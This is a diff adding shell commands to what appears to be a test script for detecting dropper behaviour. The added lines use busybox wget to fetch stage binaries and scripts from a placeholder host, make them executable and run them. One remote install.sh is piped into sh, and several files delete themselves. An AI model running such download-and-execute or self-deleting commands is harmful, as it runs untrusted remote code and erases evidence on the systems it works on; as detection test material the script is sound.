@@ -37,5 +37,26 @@ busybox wget -q -O "$stage" http://updates.aasee-cdn.example/stage2.bin && echo 
 chmod +x "$stage"
 "$stage" && echo "stage2 ran"
 
+# The same, the file written by a second process: a pipeline stage (cat) writes what busybox
+# fetched, and cp copies a download before it is made executable and run.
+cdn=http://updates.aasee-cdn.example
+busybox wget -q -O - "$cdn/stage-c.bin" | cat > /tmp/stage-c
+chmod 755 /tmp/stage-c
+/tmp/stage-c && echo "pipe stage ran"
+busybox wget -q -O /tmp/dl-e "$cdn/stage-e.bin"
+cp /tmp/dl-e /tmp/stage-e
+chmod +x /tmp/stage-e
+/tmp/stage-e && echo "copy stage ran"
+
+# A downloaded script handed to sh, and one piped into it: neither is ever made executable.
+busybox wget -q -O /tmp/update.sh "$cdn/update.sh" && sh /tmp/update.sh && echo "script ran"
+busybox wget -q -O - "$cdn/install.sh" | sh && echo "piped script ran"
+
+# Helpers run through their interpreter that delete themselves (the script is only argv[1]).
+printf 'rm -f "$0"\necho "helper-a gone"\n' > /tmp/helper-a.sh
+sh /tmp/helper-a.sh
+printf 'import os\nos.unlink(__file__)\nprint("helper-b gone")\n' > /tmp/helper-b.py
+python3 /tmp/helper-b.py
+
 # Self-deletion: the script removes its own file.
 rm -f "$0" && echo "self deleted"
